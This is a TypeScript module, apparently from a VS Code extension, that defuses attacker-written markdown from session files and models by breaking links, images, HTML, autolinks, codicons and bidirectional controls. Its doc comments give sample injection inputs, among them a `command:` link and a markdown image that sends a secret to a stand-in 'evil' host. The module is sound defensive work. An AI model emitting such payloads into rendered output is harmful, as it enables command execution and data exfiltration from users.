/**
 * The one rule for text from session files (and from models, settings files and paths) that VS
 * Code renders as markdown or as linked text: it can show itself, never act. A session file may be
 * written by an attacker; what it says must not become a link (VS Code runs any `command:` link in
 * a notification, with no allow-list), an image (fetched from wherever it points), HTML or a
 * codicon. Pure; the host's `safeUi` module is the only way such text reaches VS Code.
 *
 * - Linked-text surfaces (notifications and their buttons, progress titles, input boxes, quick
 *   picks, tree messages): `linkSafe` on the whole string. VS Code turns `[label](href)` into a link
 *   there; our own texts never use that syntax, so the whole string is escaped.
 * - Markdown surfaces (hovers, tooltips, the summary documents): built with the `md` tag, whose
 *   literal parts are ours and whose values are escaped (`escapeMarkdown`), or inserted as markdown
 *   already made safe (`inertMarkdown` for model text, `codeBlock` for raw output).
 */

/** U+200B: invisible when rendered; placed inside a token so that the token no longer parses. */
const ZERO_WIDTH_SPACE = '\u200b';

/** Bidirectional overrides and isolates reorder what is shown (a title could spell another path). */
const BIDI_CONTROLS = /[\u202a-\u202e\u2066-\u2069]/g;

/**
 * Text for a surface that renders links (`[label](command:…)`, `[label](https://…)`, `file:`)
 * and codicons (`$(name)`): each `](` and `$(` broken by an invisible character, `://` too (no
 * URL is linked even where a surface links bare URLs), and bidirectional controls removed.
 *
 * @example linkSafe('[Show Log](command:x)') // '[Show Log]\u200b(command:\u200b//…' shown as typed, not a link
 */
export function linkSafe(text: string): string {
	return text.replace(BIDI_CONTROLS, '').replace(/\]\(|\$\(|:\/\//g, (token) => `${token[0] ?? ''}${ZERO_WIDTH_SPACE}${token.slice(1)}`);
}

/** Markdown written by us, or made safe; the `md` tag inserts it unescaped. */
export class SafeMarkdown {
	constructor(readonly value: string) {}

	toString(): string {
		return this.value;
	}
}

/**
 * Markdown from a template whose literal parts are ours: each string value is escaped to show as
 * typed (`escapeMarkdown`), numbers are inserted as digits, and `SafeMarkdown` values as they are.
 *
 * @example md`**${title}** · ${count} calls` // the title can hold `[x](command:y)`: it shows as text
 */
export function md(literals: TemplateStringsArray, ...values: readonly (string | number | SafeMarkdown)[]): SafeMarkdown {
	let out = literals[0] ?? '';
	values.forEach((value, index) => {
		out += (value instanceof SafeMarkdown ? value.value : typeof value === 'number' ? String(value) : escapeMarkdown(value)) + (literals[index + 1] ?? '');
	});
	return new SafeMarkdown(out);
}

/** Joins safe markdown pieces. */
export function joinMarkdown(pieces: readonly SafeMarkdown[], separator = ''): SafeMarkdown {
	return new SafeMarkdown(pieces.map((piece) => piece.value).join(separator));
}

/**
 * `text` shown exactly as typed inside markdown: every ASCII punctuation character backslash-escaped
 * (CommonMark allows it for all of them, so no emphasis, link, image, HTML, entity, code span or
 * autolink can start), line breaks made spaces (a value stays on its line, no heading or list can
 * start), and bidirectional controls removed. `$` is escaped too, so `$(name)` is no codicon.
 */
export function escapeMarkdown(text: string): string {
	return text.replace(BIDI_CONTROLS, '').replace(/\r\n?|\n/g, ' ').replace(/[!-/:-@[-`{-~]/g, '\\$&');
}

const BANG = 0x21;
const OPEN_BRACKET = 0x5b;
const CLOSE_BRACKET = 0x5d;
const OPEN_PAREN = 0x28;
const COLON = 0x3a;
const LESS_THAN = 0x3c;
const AT = 0x40;
const SLASH = 0x2f;
const BACKTICK = 0x60;

/**
 * Model or session markdown (a summary, a chain's body) kept as markdown, so lists, emphasis and
 * code still render, but unable to reach out: an invisible character breaks every image opener
 * (`![`), every `<` (raw HTML, autolinks), every link (`](`, `][`, and `]:` of a link definition),
 * every bare URL (`://`, `www.`) and every e-mail autolink (`@`), whatever the markdown around them
 * (code spans, escapes and entities included). Nothing else changes.
 *
 * @example inertMarkdown('- done ![x](https://evil/?q=secret)') // shown as typed, no image, no link
 */
export function inertMarkdown(text: string): SafeMarkdown {
	let out = '';
	let copied = 0;
	for (let i = 0; i < text.length; i++) {
		if (breaksAfter(text, i)) {
			out += text.slice(copied, i + 1) + ZERO_WIDTH_SPACE;
			copied = i + 1;
		}
	}
	return new SafeMarkdown(out + text.slice(copied));
}

/** Whether the character at `i` starts a token that could reach out, broken right after it. */
function breaksAfter(text: string, i: number): boolean {
	const code = text.charCodeAt(i);
	const next = text.charCodeAt(i + 1);
	switch (code) {
		case LESS_THAN:
		case AT:
			return true;
		case BANG:
			return next === OPEN_BRACKET;
		case CLOSE_BRACKET:
			return next === OPEN_PAREN || next === OPEN_BRACKET || next === COLON;
		case COLON:
			return next === SLASH && text.charCodeAt(i + 2) === SLASH;
		default:
			return (code === 0x77 || code === 0x57) && /^www\./i.test(text.slice(i, i + 4));
	}
}

/**
 * A fenced code block holding `text` exactly, whatever it holds: the fence is longer than any run
 * of backticks in it, so no line of the text can close it (VS Code's own `appendCodeblock` only
 * counts runs at the start of a line, and an indented fence closes the block too).
 */
export function codeBlock(text: string, language = ''): SafeMarkdown {
	let longest = 0;
	let run = 0;
	for (let i = 0; i < text.length; i++) {
		run = text.charCodeAt(i) === BACKTICK ? run + 1 : 0;
		longest = Math.max(longest, run);
	}
	const fence = '`'.repeat(Math.max(3, longest + 1));
	return new SafeMarkdown(`\n${fence}${escapeInfo(language)}\n${text}\n${fence}\n`);
}

/** A fence's info string of ours: letters only. */
function escapeInfo(language: string): string {
	return language.replace(/[^A-Za-z0-9-]/g, '');
}
